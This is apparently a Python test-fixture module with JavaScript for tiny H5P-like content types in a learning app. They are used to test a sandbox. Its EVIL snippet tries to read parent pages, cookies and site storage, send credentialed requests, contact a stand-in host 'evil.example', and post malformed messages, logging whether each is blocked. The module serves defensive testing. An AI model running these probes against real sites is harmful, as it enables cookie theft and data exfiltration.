"""The scripts of the tests' tiny content types: each reproduces one thing that real content types were seen to do."""

#: Around each script: what a content type needs to be one, with `say`, `child` and `button` for the script itself.
FRAME = """\
window.Homeward = window.Homeward || {};
Homeward.%(name)s = function (params, contentId, extras) {
  H5P.EventDispatcher.call(this);
  var self = this;
  var resumed = !!(extras && extras.previousState);
  var state = (extras && extras.previousState) || {steps: 0};
  this.contentId = contentId;
  function say(who, verb, raw, max, success) {
    var event = who.createXAPIEventTemplate(verb);
    if (raw !== undefined) {
      event.setScoredResult(raw, max, who, true, success);
    }
    who.trigger(event);
  }
  function child(subContentId, parent) {
    var found = H5P.jQuery.extend(new H5P.EventDispatcher(), {
      contentId: contentId,
      subContentId: subContentId,
      libraryInfo: {versionedNameNoSpaces: "Homeward.Part-1.0"}
    });
    if (parent) {
      found.parent = parent;
    }
    return found;
  }
  this.getCurrentState = function () { return state; };
  this.attach = function ($container) {
    var box = document.createElement("div");
    box.className = "homeward-tiny";
    var told = document.createElement("p");
    told.className = "told";
    told.setAttribute("role", "status");
    function tell() { told.textContent = "steps: " + state.steps; self.trigger("resize"); }
    function button(name, action) {
      var made = document.createElement("button");
      made.type = "button";
      made.textContent = name;
      made.addEventListener("click", function () { state = {steps: state.steps + 1}; action(); tell(); });
      box.appendChild(made);
    }
    var title = document.createElement("h2");
    title.textContent = params.question || "Homeward.%(name)s";
    box.appendChild(title);
    $container.get(0).appendChild(box);
    this.setActivityStarted();
%(script)s
    box.appendChild(told);
    tell();
  };
};
"""

ANSWER = """
    (params.answers || [{text: "Right", correct: true}, {text: "Wrong", correct: false}]).forEach(function (answer) {
      button(answer.text, function () {
        say(self, "interacted");
        say(self, "answered", answer.correct ? 1 : 0, 1, !!answer.correct);
      });
    });
"""
QUIET = """
    button("Step", function () { say(self, "interacted"); });
    button("Finish", function () { say(self, "interacted"); say(self, "answered", 1, 2); });
"""
SET = """
    button("Step", function () { say(child("0b1c2d3e-1111-4222-8333-444455556666", self), "answered", 1, 1, true); });
    button("Finish", function () { say(self, "completed", 2, 2, true); });
"""
BOOK = """
    button("Step", function () {
      say(self, "interacted");
      say(child("7c1c2d3e-1111-4222-8333-444455556666"), "completed", 1, 1, true);
    });
    button("Finish", function () { say(self, "completed", 2, 2, true); });
"""
WRONG_CHILD = """
    button("Step", function () { say(child("9d1c2d3e-1111-4222-8333-444455556666", self), "answered", 0, 1, false); });
    button("Finish", function () { say(self, "completed", 2, 2, true); });
"""
LAST_PART = """
    function part() { say(child("9d1c2d3e-1111-4222-8333-444455556666", self), "answered", 1, 1, true); }
    button("Step", function () { say(self, "interacted"); part(); });
    button("Finish", function () { say(self, "interacted"); say(self, "answered", 1, 2); part(); });
"""
GROWING = """
    var more = document.createElement("div");
    box.appendChild(more);
    button("Step", function () { more.style.height = "700px"; say(self, "interacted"); });
    button("Finish", function () { more.style.height = "0"; say(self, "answered", 1, 1, true); });
"""
REPEATING = """
    if (resumed && state.done) { setTimeout(function () { say(self, "completed", 1, 1); }, 0); }
    button("Step", function () { say(self, "interacted"); });
    button("Finish", function () {
      say(self, "interacted");
      say(self, "completed", 1, 1);
      state.done = true;
    });
"""
CONSUMING = """
    var verb = {id: "http://activitystrea.ms/schema/1.0/consume", display: {"en-US": "consumed"}};
    var consumed = self.createXAPIEventTemplate("consumed", {result: {completion: true}});
    consumed.data.statement.verb = verb;
    setTimeout(function () { self.trigger(consumed); }, 0);
    button("Step", function () {});
"""
SILENT = """
    self.setActivityStarted = function () {};
    button("Step", function () {});
"""
SUB_STATE = """
    var part = "5e1c2d3e-1111-4222-8333-444455556666";
    H5P.getUserData(contentId, "note", function (error, kept) {
      if (!error && kept) { title.textContent = "kept: " + kept.steps; }
    }, part);
    button("Step", function () {
      say(self, "interacted");
      H5P.setUserData(contentId, "note", {steps: state.steps}, {subContentId: part, deleteOnChange: false});
    });
    button("Finish", function () { say(self, "answered", 1, 1, true); });
"""
STORAGE = """
    localStorage.setItem("homeward", "seen");
    sessionStorage.homeward = localStorage.getItem("homeward");
    title.textContent = "stored: " + sessionStorage.homeward;
    button("Finish", function () { say(self, "interacted"); say(self, "answered", 1, 1, true); });
"""
CANVAS = """
    var picture = document.createElement("img");
    picture.alt = "";
    picture.addEventListener("load", function () {
      var canvas = document.createElement("canvas");
      canvas.width = canvas.height = 4;
      canvas.getContext("2d").drawImage(picture, 0, 0);
      title.textContent = "exported: " + canvas.toDataURL("image/png").slice(0, 14);
    });
    H5P.setSource(picture, {path: "images/dot.png"}, contentId);
    box.appendChild(picture);
    button("Finish", function () { say(self, "interacted"); say(self, "answered", 1, 1, true); });
"""
#: What hostile code would try. Each attempt writes its outcome; `blocked` is what the tests want to read.
EVIL = """
    var report = document.createElement("ul");
    report.className = "report";
    box.appendChild(report);
    function note(name, outcome) {
      var line = document.createElement("li");
      line.dataset.name = name;
      line.textContent = outcome;
      report.appendChild(line);
    }
    function attempt(name, action) {
      try { note(name, action() ? "reached" : "blocked"); } catch (error) { note(name, "blocked"); }
    }
    function promised(name, action) {
      try {
        action().then(function (found) { note(name, found ? "reached" : "blocked"); }, function () { note(name, "blocked"); });
      } catch (error) { note(name, "blocked"); }
    }
    attempt("parent-dom", function () { return parent.document.body; });
    attempt("parent-name", function () { return parent.location.href; });
    attempt("cookies", function () { return document.cookie; });
    attempt("set-cookie", function () { document.cookie = "evil=1; path=/"; return document.cookie; });
    attempt("storage-of-the-site", function () { return localStorage.getItem("homeward-canary"); });
    attempt("indexed-db", function () { return indexedDB.open("homeward-evidence"); });
    attempt("code-from-text", function () { return new Function("return true")(); });
    attempt("top-navigation", function () { top.location.href = "/packages/gone"; return false; });
    attempt("worker", function () { return new Worker("/static/js/main.js"); });
    var form = document.createElement("form");
    form.action = "/app/learning/"; form.method = "post";
    box.appendChild(form);
    attempt("form", function () { form.submit(); return false; });
    promised("api-of-the-site", function () { return fetch("/app/learning/", {credentials: "include"}); });
    promised("public-pages", function () { return fetch("/healthz"); });
    promised("other-site", function () { return fetch("https://evil.example/?said=all", {mode: "no-cors"}); });
    promised("picture-elsewhere", function () {
      return new Promise(function (found, lost) {
        var picture = new Image();
        picture.onload = function () { found(true); };
        picture.onerror = lost;
        picture.src = "https://evil.example/said.png";
      });
    });
    promised("frame-elsewhere", function () {
      return new Promise(function (found) {
        var frame = document.createElement("iframe");
        frame.src = "/app/learning/";
        document.addEventListener("securitypolicyviolation", function () { found(false); }, {once: true});
        box.appendChild(frame);
      });
    });
    parent.postMessage({context: "homeward", kind: "statement", statement: {verb: {id: 7}, object: "no"}}, "*");
    parent.postMessage({context: "homeward", kind: "state", data: {toString: 1}}, "*");
    parent.postMessage({context: "h5p", action: "resize", scrollHeight: 1e12}, "*");
    parent.postMessage(null, "*");
    button("Finish", function () { say(self, "answered", 9999, 1, true); });
"""
